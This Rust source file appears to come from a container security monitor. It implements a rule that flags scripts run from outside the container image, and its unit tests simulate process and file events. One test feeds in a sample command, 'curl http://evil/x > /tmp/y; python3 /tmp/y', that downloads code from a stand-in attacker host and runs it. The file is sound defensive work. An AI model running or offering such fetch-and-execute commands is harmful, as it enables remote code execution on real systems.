//! Scripts that are not in the image.

use super::drifted_script::{INFO, is_drift, judge_as};
use super::found_script;
use super::loaded_code;
use super::script_paths::{locate, scripts};
use super::script_writers::ScriptWriters;
use crate::detect::alert::Alerts;
use crate::detect::rule_context::RuleContext;
use crate::detect::{Handler, Rule, program_roles};
use crate::event::Exec;

/// Scripts.
pub(super) const SCRIPT: Rule = Rule {
    info: INFO,
    handlers: &[
        Handler::Exec(|ctx, memory, exec| script(ctx, memory.of(), exec)),
        Handler::File(|ctx, _, file| loaded_code::examine(ctx, file)),
        Handler::DriftScan(|ctx, _, scan| found_script::examine(ctx, scan)),
        Handler::Found(|ctx, _, process| found_script::in_memory(ctx, process)),
    ],
};

fn script(ctx: &RuleContext<'_>, memory: &mut ScriptWriters, exec: &Exec) -> Alerts {
    // A drifted interpreter is its own finding.
    if !exec.file.origin().is_or_may_be_the_images() {
        return Alerts::none();
    }
    let mut run = scripts(ctx.names(), exec);
    run.extend(loaded_code::named(ctx, exec));
    for path in run {
        if let Some(path) = locate(ctx, exec, &path)
            && is_drift(ctx, &path)
        {
            let command = program_roles::command_line(&exec.argv, &exec.exe, 160);
            let written = memory.note_run(ctx, &path);
            return judge_as(ctx, &path, &written, &command);
        }
    }
    Alerts::none()
}

#[cfg(test)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;
    use crate::event::{FileOp, Mount};

    #[test]
    fn a_later_process_with_the_pid_of_a_writer_wrote_nothing() {
        let mut w = World::steady();
        let init = w.init();
        let writer = w.exec(init, "/bin/sh", &["sh"]);
        w.create(writer, "/srv/a.sh");
        w.exec(writer, "/bin/sh", &["sh", "/srv/a.sh"]);
        w.create(writer, "/srv/b.sh");
        w.exit(writer);
        w.ticks(1);
        let fork = crate::event::Fork {
            ppid: init,
            ..crate::event::Fork::default()
        };
        w.fact(writer, crate::event::Kind::Fork(fork));
        w.exec_as(writer, init, "/bin/bash", &["bash"], |_| {});
        w.exec(writer, "/bin/sh", &["sh", "/srv/b.sh"]);
        let all = w.all("drift.script");
        assert_eq!(all.len(), 2, "{all:#?}");
        assert_eq!(all[1].subject, "/srv/b.sh");
        assert!(all[1].parts.is_empty());
    }

    #[test]
    fn scripts_that_one_process_writes_and_runs_are_one_finding() {
        let mut w = World::steady();
        let s = w.session(&["sh", "-c", "for n in 1 2 3; do ...; done"]);
        for n in 0..5 {
            let job = format!("/root/job.{n}");
            w.create(s, &job);
            let python = w.exec(s, "/usr/bin/python3", &["python3", &job]);
            w.exit(python);
            w.file(s, FileOp::Unlink, &job);
        }
        let all = w.all("drift.script");
        assert_eq!((all.len(), all[0].count), (1, 5));
        assert_eq!(all[0].parts.len(), 4);
        // Scripts that another process wrote are separate findings.
        let other = w.session(&["sh"]);
        w.create(other, "/srv/x.sh");
        w.exec(s, "/bin/sh", &["sh", "/srv/x.sh"]);
        assert_eq!(w.all("drift.script").len(), 2);
    }

    #[test]
    fn scripts_of_a_command_that_is_repeated_are_one_finding() {
        let mut w = World::steady();
        let init = w.init();
        let tests = ["python3", "-m", "unittest", "-q", "test_a.py"];
        for n in 0..3 {
            let tests = w.exec(init, "/usr/bin/python3", &tests);
            w.create(tests, &format!("/tmp/t{n}/s.sh"));
            w.exec(tests, "/bin/sh", &["sh", &format!("/tmp/t{n}/s.sh")]);
            w.exit(tests);
        }
        let all = w.all("drift.script");
        assert_eq!((all.len(), all[0].count), (1, 3));
    }

    #[test]
    fn scripts_by_every_way() {
        // As an argument, by a relative path, by its own `#!`.
        for (argv, shebang) in [
            (&["sh", "/tmp/p"][..], None),
            (&["bash", "-x", "p"], None),
            (&["python3", "./p"], None),
            (&["sh", "/tmp/p"], Some("/tmp/p")),
        ] {
            let mut w = World::steady();
            let init = w.init();
            w.create(init, "/tmp/p");
            let p = w.fork(init);
            let exe = format!("/usr/bin/{}", argv[0]);
            w.exec_as(p, init, &exe, argv, |e| {
                e.cwd = "/tmp".into();
                e.script = shebang.map(Into::into);
            });
            assert_eq!(w.finding("drift.script").severity, Severity::Medium);
            w.only(&["drift.script"]);
        }
        let mut w = World::steady();
        let init = w.init();
        w.exec(init, "/bin/sh", &["sh", "/dev/shm/p"]);
        w.only(&["drift.script"]);
    }

    #[test]
    fn the_images_own_scripts_are_silent() {
        let mut w = World::starting();
        let init = w.init();
        w.create(init, "/run/generated.sh");
        w.ticks(60);
        w.exec(init, "/bin/sh", &["sh", "/run/generated.sh"]);
        w.exec(init, "/bin/sh", &["sh", "/usr/local/bin/job.sh"]);
        w.exec(init, "/bin/sh", &["sh", "-c", "/tmp/x"]);
        w.refused(init, FileOp::Write, "/app.py", 30);
        w.exec(init, "/usr/bin/python3", &["python3", "/app.py"]);
        assert_eq!(w.highest(), Severity::Info);
        w.info(|i| {
            i.mounts.push(Mount {
                kind: "tmpfs".into(),
                destination: "/run".into(),
                ..Mount::default()
            });
        });
        w.exec(init, "/bin/sh", &["sh", "/run/other.sh"]);
        assert_eq!(w.highest(), Severity::Medium);
    }

    #[test]
    fn scripts_by_other_names_and_options() {
        for argv in [
            &["sh", "/srv/link"][..],
            &["sh", "/proc/1/root/tmp/p"],
            &["sh", "/proc/self/cwd/p"],
            &["gawk", "-f", "/tmp/p"],
            &["node", "-r", "/tmp/p", "/app.js"],
        ] {
            let mut w = World::steady();
            let init = w.init();
            w.create(init, "/tmp/p");
            w.link(init, FileOp::Symlink, "/srv/link", "/tmp/p");
            let p = w.fork(init);
            let exe = format!("/usr/bin/{}", argv[0]);
            w.exec_as(p, init, &exe, argv, |e| e.cwd = "/tmp".into());
            assert_eq!(w.finding("drift.script").subject, "/tmp/p", "{argv:?}");
        }
        let mut w = World::steady();
        let init = w.init();
        w.create(init, "/tmp/mod.py");
        w.create(init, "/tmp/data");
        for (argv, runs) in [
            (&["python3", "-m", "http.server"][..], false),
            (&["awk", "{print}", "/tmp/data"], false),
            (&["python3", "/app.py", "/tmp/data"], false),
            (&["python3", "-m", "mod"], true),
        ] {
            let p = w.fork(init);
            let exe = format!("/usr/bin/{}", argv[0]);
            w.exec_as(p, init, &exe, argv, |e| e.cwd = "/tmp".into());
            assert_eq!(!w.all("drift.script").is_empty(), runs, "{argv:?}");
        }
    }

    #[test]
    fn scripts_of_one_exec_command_given_again_are_one_finding() {
        let run = |w: &mut World, command: &str, path: &str| {
            let s = w.session(&["sh", "-c", command]);
            w.create(s, path);
            w.exec(s, "/usr/bin/python3", &["python3", path]);
        };
        let mut w = World::steady();
        for n in 0..4 {
            let path = format!("/root/.ansible/tmp-{n}/module.py");
            run(&mut w, &format!("python3 {path} && sleep 0"), &path);
        }
        let all = w.all("drift.script");
        assert_eq!((all.len(), all[0].count), (1, 4), "{all:?}");
        // Another command is another finding.
        run(
            &mut w,
            "curl http://evil/x > /tmp/y; python3 /tmp/y",
            "/tmp/y",
        );
        assert_eq!(w.all("drift.script").len(), 2);
    }

    #[test]
    fn a_supervisors_scripts_on_a_tmpfs_were_there_before_watching() {
        let ran = |dir: &str, parent: &str| {
            let mut w = World::found();
            w.info(|i| {
                i.mounts.push(Mount {
                    kind: "tmpfs".into(),
                    destination: dir.into(),
                    ..Mount::default()
                });
            });
            let init = w.init();
            let above = w.exec(init, parent, &[parent]);
            let script = format!("{dir}/service/run");
            w.exec(above, "/bin/sh", &["sh", &script]);
            w.highest()
        };
        assert_eq!(ran("/run", "/usr/bin/supervisord"), Severity::Info);
        assert_eq!(ran("/dev/shm", "/usr/bin/supervisord"), Severity::Medium);
        assert_eq!(ran("/run", "/usr/sbin/nginx"), Severity::Medium);
    }
}
